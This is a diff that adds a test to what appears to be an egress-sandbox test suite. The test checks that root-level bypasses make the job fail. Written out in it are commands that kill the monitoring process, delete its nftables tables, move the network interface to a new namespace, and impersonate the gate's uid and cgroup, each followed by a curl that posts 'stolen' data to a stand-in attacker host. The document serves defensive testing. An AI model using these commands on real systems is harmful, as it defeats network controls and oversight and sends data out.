@@ -173,6 +173,34 @@ def test_what_sudo_can_undo_is_noticed(machine: Machine, name: str) -> None:
             assert any(told in one["detail"] for one in verdict.report["incidents"]), verdict.report["incidents"]
 
 
+# With root's rights these do open a way. It is stated here that they do, and that the job fails for it.
+OPENED = {
+    "ending the warden and deleting its table": "kill -9 $(cat /tmp/warden); sleep 0.5; nft delete table inet ebbgate; nft delete table netdev ebbgate",
+    "taking the interface to another namespace": (
+        "ip netns add away; ip link set eth0 netns away; "
+        "ip -n away addr add 192.0.2.2/24 dev eth0; ip -n away link set eth0 up; ip -n away route add default via 192.0.2.1"
+    ),
+    "passing for the gate": "G=$(cat /tmp/gate); U=$(stat -c %u /proc/$G); D=$(sed -n 's/^0:://p' /proc/$G/cgroup)",
+}  # fmt: skip
+_LEAK = f"curl -sSk -m 5 -d stolen https://{EVIL}/"
+_THEN = {
+    "ending the warden and deleting its table": _LEAK,
+    "taking the interface to another namespace": f"ip netns exec away {_LEAK}",
+    "passing for the gate": f"echo $$ >/sys/fs/cgroup$D/cgroup.procs; exec setpriv --reuid $U --regid $U --clear-groups {_LEAK}",
+}
+
+
+@pytest.mark.parametrize("name", OPENED)
+def test_what_root_can_open_fails_the_job(machine: Machine, name: str) -> None:
+    with Job(machine, allow="api.example.com") as job:
+        status = job.status()
+        machine.write("/tmp/gate", str(status["gate"]))
+        machine.write("/tmp/warden", str(status["warden"]))
+        job.step(["sudo", "sh", "-c", f"{OPENED[name]}; {_THEN[name]}"], name="undo", timeout=30)
+        assert machine.world.at(EVIL), "it is held after all: say so in the README"
+        assert job.verdict().code in (92, 93)
+
+
 def test_a_killed_warden_leaves_the_machine_closed_and_the_job_failed(machine: Machine) -> None:
     with Job(machine, allow="api.example.com") as job:
         pid = job.status()["warden"]
